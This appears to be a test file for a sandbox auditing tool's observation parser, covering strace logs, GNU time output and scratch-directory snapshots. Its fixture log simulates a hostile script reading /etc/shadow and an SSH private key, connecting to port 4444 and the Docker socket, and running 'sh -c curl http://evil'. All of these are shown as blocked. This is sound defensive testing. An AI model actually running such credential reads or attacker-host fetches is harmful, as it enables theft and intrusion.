// Observation parsing: strace logs (strace 6.x output format), scratch snapshots, GNU time output.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync, unlinkSync, utimesSync } from 'node:fs';
import { join } from 'node:path';
import { straceObservations, parseStraceLines, parseRusage, snapshotDir, diffSnapshots, socketAddress, processTree } from '../../../main/sandbox/observe.ts';
import { tempDir } from '../../helpers/corpus.ts';

const LOG = [
  '5     execve("/usr/bin/time", ["/usr/bin/time", "-o", "/.tfaudit/rusage.txt"], 0x7ffc /* 9 vars */) = 0',
  '5     openat(AT_FDCWD, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC) = 3',
  '6     execve("/usr/bin/prlimit", ["prlimit", "--as=1"], 0x7ffc /* 9 vars */) = 0',
  '6     execve("/usr/bin/setpriv", ["setpriv", "--reuid=65534"], 0x7ffc /* 9 vars */) = 0',
  '6     execve("/usr/bin/python3", ["/usr/bin/python3", "evil.py"], 0x7ffc /* 9 vars */) = 0',
  '6     openat(AT_FDCWD, "/usr/lib/python3.11/os.py", O_RDONLY|O_CLOEXEC) = 3',
  '6     openat(AT_FDCWD, "/usr/lib/python3.11/missing.py", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
  '6     openat(AT_FDCWD, "/etc/shadow", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
  '6     openat(AT_FDCWD, "/home/alice/.ssh/id_rsa", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)',
  '6     openat(AT_FDCWD, "/model/pwned", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = -1 EROFS (Read-only file system)',
  '6     openat(AT_FDCWD, "/tmp/tfaudit_canary", O_WRONLY|O_CREAT|O_TRUNC, 0666 <unfinished ...>',
  '7     clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x7f}, 88) = 8',
  '6     <... openat resumed>) = 4',
  '6     socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 5',
  '6     connect(5, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.1.2.3")}, 16) = -1 ENETUNREACH (Network is unreachable)',
  '6     connect(7, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)',
  '6     getsockopt(7, SOL_SOCKET, SO_ERROR, [ECONNREFUSED], [4]) = 0',
  '6     connect(8, {sa_family=AF_UNIX, sun_path="/run/docker.sock"}, 110) = -1 ENOENT (No such file or directory)',
  '6     clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily unavailable)',
  '6     clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily unavailable)',
  '6     execve("/bin/sh", ["sh", "-c", "curl http://evil"], 0x55 /* 3 vars */) = -1 EACCES (Permission denied)',
  '6     unlinkat(AT_FDCWD, "/scratch/x", 0) = 0',
  '6     renameat2(AT_FDCWD, "/scratch/a", AT_FDCWD, "/scratch/b", RENAME_NOREPLACE) = 0',
  '6     openat(AT_FDCWD, "/.tfaudit/strace.log", O_RDONLY) = -1 EACCES (Permission denied)',
  '6     --- SIGXCPU {si_signo=SIGXCPU, si_code=SI_KERNEL} ---',
  '6     +++ killed by SIGKILL +++',
].join('\n');

test('strace log → observations: the telling calls, runtime noise and our wrappers dropped', () => {
  const obs = straceObservations(LOG, { quietPrefixes: ['/usr', '/etc/ld.so.cache'], wrapperPrograms: ['time', 'prlimit', 'setpriv', 'strace'] });
  const lines = obs.map((o) => `${o.kind} ${o.call} ${o.target} ${o.result}${o.count && o.count > 1 ? ` x${o.count}` : ''}`);
  assert.deepEqual(lines, [
    'process execve /usr/bin/python3 evil.py ok',
    'file openat(read) /etc/shadow ENOENT',
    'file openat(read) /home/alice/.ssh/id_rsa ENOENT',
    'file openat(write) /model/pwned EROFS',
    'process clone3 new thread ok',
    'file openat(write) /tmp/tfaudit_canary ok',
    'network connect 10.1.2.3:4444 ENETUNREACH',
    'network connect 127.0.0.1:80 EINPROGRESS → ECONNREFUSED',
    'network connect unix:/run/docker.sock ENOENT',
    'process clone new process EAGAIN x2',
    'process execve /bin/sh -c curl http://evil EACCES',
    'file unlinkat /scratch/x ok',
    'file renameat2 /scratch/a -> /scratch/b ok',
  ]);
  assert.equal(obs[0]!.pid, 6);
});

test('strace lines: unfinished/resumed pairs are joined; escapes decoded', () => {
  const calls = parseStraceLines('9 openat(AT_FDCWD, "/a\\"b\\x41", O_RDONLY <unfinished ...>\n9 <... openat resumed>) = 3\n');
  assert.deepEqual(calls, [{ pid: 9, name: 'openat', args: 'AT_FDCWD, "/a\\"b\\x41", O_RDONLY', result: '3' }]);
  const obs = straceObservations('9 execve("/x", ["x"], 0x1) = 0\n' + calls.map(() => '9 openat(AT_FDCWD, "/a\\"b\\x41", O_RDONLY) = 3').join(''), { quietPrefixes: [], wrapperPrograms: [] });
  assert.equal(obs[1]!.target, '/a"bA');
  assert.equal(socketAddress('{sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}'), '[::1]:443');
});

test('GNU time output: exit status, signal, CPU and max RSS', () => {
  assert.deepEqual(parseRusage('tfaudit-rusage 1.50 0.80 0.20 51200 0\n'), { wallSeconds: 1.5, cpuSeconds: 1, maxRssMb: 50, exitCode: 0, signal: null });
  const killed = parseRusage('Command terminated by signal 24\ntfaudit-rusage 3.00 2.90 0.05 2048 0\n')!;
  assert.equal(killed.signal, 'SIGXCPU');
  assert.equal(killed.exitCode, null);
  assert.equal(parseRusage('Command exited with non-zero status 3\ntfaudit-rusage 0.1 0 0 1024 3\n')!.exitCode, 3);
  assert.equal(parseRusage(''), null);
});

test('scratch snapshots: created, modified (same size, new content), deleted', async () => {
  const dir = tempDir();
  try {
    mkdirSync(join(dir, 'tmp'));
    writeFileSync(join(dir, 'keep.txt'), 'same');
    writeFileSync(join(dir, 'change.txt'), 'aaaa');
    writeFileSync(join(dir, 'gone.txt'), 'bye');
    const before = await snapshotDir(dir);
    writeFileSync(join(dir, 'change.txt'), 'bbbb');
    utimesSync(join(dir, 'change.txt'), 1, 1);
    unlinkSync(join(dir, 'gone.txt'));
    writeFileSync(join(dir, 'tmp', 'tfaudit_canary'), 'pwned');
    const after = await snapshotDir(dir);
    assert.deepEqual(diffSnapshots(before, after, (p) => `/x/${p}`), [
      { path: '/x/change.txt', size: 4, change: 'modified' },
      { path: '/x/gone.txt', size: 3, change: 'deleted' },
      { path: '/x/tmp/tfaudit_canary', size: 5, change: 'created' },
    ]);
  } finally {
    rmSync(dir, { recursive: true });
  }
});

test('processTree includes this process', () => {
  assert.ok(processTree(process.pid).includes(process.pid));
});
